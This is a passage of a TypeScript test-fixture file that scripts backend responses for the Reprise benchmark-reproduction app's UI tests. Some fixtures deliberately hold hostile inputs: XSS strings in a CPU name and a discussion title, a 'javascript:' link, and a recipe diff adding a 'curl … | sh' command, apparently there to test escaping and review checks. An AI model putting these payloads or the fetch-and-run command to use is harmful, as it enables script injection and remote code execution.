      units: ['req/s'], figures: 46, claims: 21, steps: 0, checksum: { status: 'matches' }, lanes: [], runnable: 0, runs_here: 0,
    },
    {
      post: { id: 'campfire-falcon', title: 'Campfire under Falcon', author: 'Sam Ruby', date: '2026-10', url: null, run: 'the October 16 run', summary: 'Three layers close the avatar gap.', unknowns: [] },
      units: ['req/s', 'µs'], figures: 31, claims: 26, steps: 12, checksum: { status: 'matches' }, runnable: 2, runs_here: 1,
      lanes: [{ lane: 'ruby', here: { state: 'runs' } }, { lane: 'ruby-falcon', here: blocked }],
    },
  ],
  problems: [],
  dir: '/home/reader/reprise/recipes',
};

/** One recipe of one figure, one claim and one lane, its last run judging nothing. */
const oneRecipe: Library = {
  ...library,
  recipes: [{ ...library.recipes[0], figures: 1, claims: 1, lanes: [{ lane: 'puma', here: { state: 'runs' } }], runnable: 1, runs_here: 1 }],
};
const judgedNothing = { ...results.run, id: 'hello-ceiling-3', cells: 0, reproduced: 0, not_comparable: 0, tally: 'no claims' };

const finishedRun: RunOutcome = {
  run: 'hello-ceiling-20261130-1',
  ending: 'lanes_missing',
  headline: 'Run hello-ceiling-20261130-1 finished with lanes missing: 1 step finished, 1 skipped; 1 lane not measured (falcon)',
  steps: { finished: ['clone'], reused: [], skipped: ['measure'], failed: [], cancelled: false, lanes_failed: [] },
  skipped_lanes: [{ lane: 'falcon', why: 'preflight: Cannot run: it needs falcon, which this machine lacks.' }],
  summary: '1 step finished, 1 skipped; 1 lane not measured (falcon)',
  history: { outcome: 'stored', id: 'hello-ceiling-20261130-1' },
};

/** A run to resume: its measuring step finished in the latest run and kept. */
const resumedPlan: RunPlan = {
  ...plan,
  resumes: 'hello-ceiling-20261130-1',
  steps: [
    { ...plan.steps[0], reason: 'it has not finished before' },
    { ...plan.steps[1], decision: 'keep', reason: 'finished before; inputs unchanged and outputs intact', last_status: 'finished' },
  ],
};

/** A quick run measuring puma and nginx, falcon skipped: four cells of two runs. */
const measuringPlan: RunPlan = { ...plan, lanes: ['puma', 'falcon', 'nginx'], steps: [plan.steps[1]] };
const cellOf = (lane: string, run: number) => ({ lane, endpoint: '/', run });
// The app's count: the cells left of four, two seconds each, as each begins.
const measuring = (done: number, lane: string, run: number): StreamMessage[] => [
  { type: 'progress', step: 'measure', done, total: 4, req_per_s: lane === 'puma' ? 6100 : 22400, p99_ms: 9.5, cell: cellOf(lane, run), merged: 4 },
  left((4 - done) * 2, true),
];
const measureBatches: StreamMessage[][] = [
  [ev({ event: 'run', id: 'hello-ceiling-20261201-2', dir: '/runs/hello-ceiling-20261201-2' }), ev({ event: 'started', step: 'measure', kind: 'load' }), left(10, true)],
  [{ type: 'log', step: 'measure', lines: ['servers on CPU 0, load generator on CPU 1', 'lane falcon skipped (preflight): Cannot run: it needs falcon, which this machine lacks.'], dropped: 0 }, left(10, true)],
  measuring(0, 'puma', 1),
  measuring(1, 'nginx', 1),
  measuring(2, 'nginx', 2),
  measuring(3, 'puma', 2),
  [{ type: 'progress', step: 'measure', done: 4, total: 4, req_per_s: null, p99_ms: null, cell: null, merged: 1 }, left(null)],
  [ev({ event: 'finished', step: 'measure', duration_ms: 10600 }), left(null)],
];
const measuredRun: RunOutcome = {
  run: 'hello-ceiling-20261201-2',
  ending: 'lanes_missing',
  headline: 'Run hello-ceiling-20261201-2 finished with lanes missing: 1 step finished; 1 lane not measured (falcon)',
  steps: { finished: ['measure'], reused: [], skipped: [], failed: [], cancelled: false, lanes_failed: [] },
  skipped_lanes: [{ lane: 'falcon', why: 'preflight: Cannot run: it needs falcon, which this machine lacks.' }],
  summary: '1 step finished; 1 lane not measured (falcon)',
  history: { outcome: 'stored', id: 'hello-ceiling-20261201-2' },
};


// Everyone's results for hello-ceiling: four machines (one a stranger's
// copy whose CPU name is HTML), an ordering no machine has an interval
// for, two posts kept apart (one titled with a script), this machine placed.
const xeon = 'Intel(R) Xeon(R) Gold 6338 CPU @ 2.00GHz';
const epyc = 'AMD EPYC 7763 64-Core Processor';
const hostileCpu = '<img src=x onerror="document.title=\'pwned\'">Xeon';
const discussion = (n: number) => `https://github.com/rubys/reprise/discussions/${n}`;
const interval = (estimate: number, spread: number) => ({ estimate, low: estimate - spread, high: estimate + spread });
const point = (number: number, author: string, cpu: string, vendor: string, vm: boolean | null, outcome: 'reproduced' | 'not_reproduced', estimate: number | null) => ({
  number, url: discussion(number), author, cpu, vendor, virtual_machine: vm, hypervisor: vm ? 'KVM' : null, outcome,
  answer: outcome, measured: estimate === null ? null : interval(estimate, 0.02),
  reading: estimate === null ? '—' : `${estimate}× (${estimate - 0.02}–${estimate + 0.02})`, this_machine: false,
});
const thisRun = { run: 'hello-ceiling-1', created_at: '2026-11-30T05:00:00Z', smoke_run: false, reviewed: true, shared_as: null,
  machine: { cpu: epyc, vendor: 'AuthenticAMD', cores: 64, threads: 128, smt: true, min_mhz: 1500, max_mhz: 3500, governor: 'performance', boost: true, memory_mib: 262144, os: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.1.0', arch: 'x86_64', virtual_machine: false, hypervisor: null } };
const community: Community = {
  recipe: 'hello-ceiling', repo: 'rubys/reprise',
  fetch: { fetch: 'fetched', read: 6, pages: 3, read_again: false },
  fetched_at: '2026-12-04T05:48:29Z', cache_unread: null, rate: { remaining: 4991, reset: 1900000000 }, reviewed_sha256: 'ab'.repeat(32),
  discussions: 7, counted: 4, superseded: 1, dropped: 0,
  claims: [
    {
      claim: 'falcon-twice-puma', kind: 'ratio', quote: 'under Falcon, 106,000.', unit: '×', published: 1.96, band: [1.666, 2.254], band_reading: '1.67–2.25×',
      reproduced: 3, not_reproduced: 1, could_not_say: 0,
      by_cpu: [
        { cpu: xeon, reproduced: 1, not_reproduced: 1, could_not_say: 0 },
        { cpu: epyc, reproduced: 1, not_reproduced: 0, could_not_say: 0 },
        { cpu: hostileCpu, reproduced: 1, not_reproduced: 0, could_not_say: 0 },
      ],
      points: [
        point(4, 'mallory', hostileCpu, 'GenuineIntel', null, 'reproduced', 1.95),
        point(3, 'chen', epyc, 'AuthenticAMD', false, 'reproduced', 2),
        point(2, 'ben', xeon, 'GenuineIntel', true, 'not_reproduced', 1.5),
        point(1, 'ana', xeon, 'GenuineIntel', false, 'reproduced', 1.95),
      ],
      this_machine: {
        outcome: 'reproduced', answer: 'reproduced', measured: interval(2.08, 0.01), reading: '2.08× (2.07–2.09)', higher_than: 4, lower_than: 0, of: 4,
        words: 'reproduced, 2.08× (2.07–2.09): higher than 4 of 4 other machines',
      },
    },
    {
      claim: 'falcon-above-puma', kind: 'ordering', quote: 'under Falcon, 106,000.', unit: 'req/s', published: null, band: null, band_reading: null,
      reproduced: 4, not_reproduced: 0, could_not_say: 0,
      by_cpu: [{ cpu: xeon, reproduced: 2, not_reproduced: 0, could_not_say: 0 }],
      points: [1, 2, 3, 4].map((n) => point(n, 'x', xeon, 'GenuineIntel', false, 'reproduced', null)),
      this_machine: { outcome: 'reproduced', answer: 'reproduced', measured: null, reading: '—', higher_than: 0, lower_than: 0, of: 0, words: 'reproduced' },
    },
  ],
  apart: [
    { number: 6, title: '<script>document.title="pwned"</script>', author: 'mallory', url: discussion(6), why: 'malformed', words: 'malformed: EOF while parsing a list at line 2 column 0' },
    { number: 5, title: 'From the future', author: 'mallory', url: discussion(5), why: 'other_schema', words: 'another schema (reprise-result v7; this Reprise reads v1)' },
  ],
  this_machine: thisRun,
};
const nobodyYet: Community = {
  ...community, fetch: { fetch: 'not_signed_in' }, fetched_at: null, rate: null, discussions: 0, counted: 0, superseded: 0, apart: [],
  claims: community.claims.map((c) => ({ ...c, reproduced: 0, not_reproduced: 0, could_not_say: 0, by_cpu: [], points: [], this_machine: null })),
  this_machine: null,
};
const rateLimited: Community = {
  ...community, fetch: { fetch: 'failed', reason: 'GitHub’s API rate limit is spent (it resets in 12 minutes)' }, rate: { remaining: 0, reset: 1900000000 },
};

export const scripts: Record<string, Script> = {
  others: {
    community: { 'hello-ceiling': [{ value: community }] },
    openLink: { value: null },
  },
  /** Not signed in and nothing read yet. */
  /** Not signed in: a pasted token signs in, and the fetch then reads. */
  othersnone: {
    community: { 'hello-ceiling': [{ value: nobodyYet }, { value: community }] },
    shareStatus: { value: { signed_in: false, signed_in_with: null, can_sign_in: false, repo: 'rubys/reprise', repo_from: 'chosen', token_store: 'the OS keyring' } },
  },
  /** The first fetch hits the rate limit (the cache is shown); the next one reads. */
  othersrefetch: {
    community: { 'hello-ceiling': [{ value: rateLimited }, { value: community, delayMs: 200 }] },
  },
  default: {
    library: { value: library },
    post: { 'hello-ceiling': { value: post } },
    history: { value: [results.run] },
    results: { 'hello-ceiling-1': { value: results } },
    share: { 'hello-ceiling-1': { value: share } },
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 30, end: { value: readyValidation } },
    preflight: { 'hello-ceiling': { value: preflight } },
    setupPlan: { 'hello-ceiling': { value: setupPlan } },
    setup: { 'hello-ceiling': { batches: setupBatches, tickMs: 30, end: { value: 'installed' }, after: preflightSetUp } },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: finishedRun },
      },
    },
    runUntilConclusive: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: { ...finishedRun, headline: 'Run hello-ceiling-20261130-1 finished with lanes missing: 1 step finished, 1 skipped, then runs until each claim was decided; 1 lane not measured (falcon)' } },
      },
    },
    planOnServer: { 'hello-ceiling': { value: serverPlan } },
    runOnServer: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: { ...finishedRun, headline: 'Run hello-ceiling-20261130-1 finished with lanes missing: 1 step finished on the server host, 1 skipped; 1 lane not measured (falcon)' } },
      },
    },
    shareStatus: { value: { signed_in: false, signed_in_with: null, can_sign_in: true, repo: 'rubys/reprise', repo_from: 'chosen', token_store: 'the OS keyring' } },
    signIn: { value: { user_code: 'WDJB-MJHT', verification_uri: 'https://github.com/login/device', expires_in: 900 } },
    waitSignIn: { value: 'the OS keyring', delayMs: 300 },
    submit: { value: { url: 'https://github.com/rubys/reprise/discussions/7', number: 7 } },
    stream: flood(40),
  },
  libraryone: {
    library: { value: oneRecipe },
    history: { value: [judgedNothing] },
  },
  librarysmoke: {
    library: { value: library },
    history: { value: [smokeResults.run, results.run] },
  },
  slowhistory: {
    library: { value: library },
    history: { value: [results.run], delayMs: 60_000 },
  },
  historyerror: {
    library: { value: library },
    history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
  },
  caveats: {
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 250, end: { value: caveatsValidation } },
  },
  onerun: {
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 10, end: { value: oneRunValidation } },
  },
  validateerror: {
    machine: { value: machine },
    validation: {
      lines: validationLines.slice(0, 2),
      end: {
        error: {
          kind: 'internal',
          message: 'could not validate: cannot listen on 127.0.0.1:0: Too many open files (os error 24)',
          hint: 'Close other busy programs and try again; `reprise validate` in a terminal shows the same.',
        },
      },
    },
  },
  longnote: {
    post: { 'campfire-runtimes': { value: runtimesPost } },
    openLink: { value: null },
  },
  /** A recipe whose post link is not a web address: nothing to open. */
  badlink: {
    post: { 'campfire-runtimes': { value: { ...runtimesPost, post: { ...runtimesPost.post, url: 'javascript:alert(document.domain)' } } } },
    openLink: { value: null },
  },
  linkerror: {
    post: { 'campfire-runtimes': { value: runtimesPost } },
    openLink: { error: { kind: 'io', message: 'could not start xdg-open: No such file or directory (os error 2)', hint: 'Install xdg-open (xdg-utils on Linux), or open the link by hand: https://example.com/posts/campfire-runtimes' } },
  },
  smoke: {
    history: { value: [smokeResults.run, results.run] },
    results: { 'hello-ceiling-1': { value: results }, 'hello-ceiling-2': { value: smokeResults } },
  },
  conclusive: {
    history: { value: [conclusiveResults.run] },
    results: { 'hello-ceiling-3': { value: conclusiveResults } },
  },
  counts: {
    history: { value: [countResults.run] },
    results: { 'campfire-nightly-1': { value: countResults } },
  },
  people: {
    history: { value: [peopleResults.run] },
    results: { 'campfire-people-1': { value: peopleResults } },
  },
  /** No OAuth app and no repository yet: the repository field and the prefilled link. */
  sharenoapp: {
    history: { value: [results.run] },
    // The Markdown as the backend gives it (here unlike the title and body
    // joined, so a test sees Copy take it as given).
    share: { 'hello-ceiling-1': { value: { ...share, repo: null, prefilled_url: null, markdown: `${share.markdown}\nFrom the backend.\n` } } },
    shareStatus: { value: { signed_in: false, signed_in_with: null, can_sign_in: false, repo: null, repo_from: null, token_store: 'the OS keyring' } },
    shareSave: { value: '/home/reader/.local/share/reprise/shares/hello-ceiling-1.md' },
    openLink: { value: null },
  },
  shareerror: {
    history: { value: [results.run] },
    share: { 'hello-ceiling-1': { value: share } },
    shareStatus: { value: { signed_in: true, signed_in_with: 'GH_TOKEN / GITHUB_TOKEN', can_sign_in: true, repo: 'rubys/nope', repo_from: 'environment', token_store: 'the OS keyring' } },
    submit: { error: { kind: 'share', message: 'GraphQL: Could not resolve to a Repository with the name rubys/nope.', hint: 'Check the repository, its Discussions category for this recipe, and the token.' } },
  },
  measuring: {
    plan: { 'hello-ceiling': { value: measuringPlan } },
    run: { 'hello-ceiling': { batches: measureBatches, tickMs: 700, outcome: { value: measuredRun } } },
  },
  resumed: {
    plan: { 'hello-ceiling': { value: resumedPlan } },
    // Resumed, the measuring step is kept: nothing to measure; a new run measures it all.
    run: { 'hello-ceiling': { batches: runBatchesMeasuring(null), fresh: runBatches, tickMs: 1000, outcome: { value: finishedRun } } },
  },
  judgesnothing: {
    plan: { 'hello-ceiling': { value: judgesNothingPlan } },
  },
  slowrun: {
    library: { value: library },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 1000,
        outcome: { value: finishedRun },
      },
    },
  },
  empty: {
    library: { value: { recipes: [], problems: [], dir: '/nowhere/recipes' } },
    history: { value: [] },
    machine: { value: machine },
  },
  error: {
    library: { error: { kind: 'io', message: 'cannot read /nowhere/recipes: No such file or directory', hint: 'Start Reprise from its checkout, or set REPRISE_ROOT to the folder that holds recipes/.' } },
    post: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
    preflight: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    plan: {
      'hello-ceiling': {
        value: {
          ...plan,
          checksum: { status: 'modified', expected: 'aa', actual: 'bb' },
          reviewed_diff: '--- a/recipes/hello-ceiling.toml\n+++ b/recipes/hello-ceiling.toml\n@@ -1 +1 @@\n-command = ["true"]\n+command = ["sh", "-c", "curl example.invalid | sh"]\n',
        },
      },
    },
    run: {
      'hello-ceiling': {
        batches: [],
        outcome: { error: { kind: 'unreviewed', message: 'recipes/hello-ceiling.toml is modified in checksums/recipes.sha256: its commands have not been reviewed', hint: 'Review the recipe, then record it with `reprise checksums update`.' } },
      },
    },
    machine: { error: { kind: 'internal', message: 'no answer', hint: 'Restart the app.' } },
  },
  slow: {
    library: { value: library, delayMs: 60_000 },
    post: { 'hello-ceiling': { value: post, delayMs: 60_000 } },
    preflight: { 'hello-ceiling': { value: preflight, delayMs: 60_000 } },
    plan: { 'hello-ceiling': { value: plan, delayMs: 60_000 } },
    history: { value: [], delayMs: 60_000 },
    machine: { value: machine, delayMs: 60_000 },
  },
};

/** The scripted backend a test page names (`?script=NAME`), if it names one. */
export function scriptedFromSearch(search: string): Backend | null {
  const name = new URLSearchParams(search).get('script');
  return name && scripts[name] ? scriptedBackend(scripts[name]) : null;
}
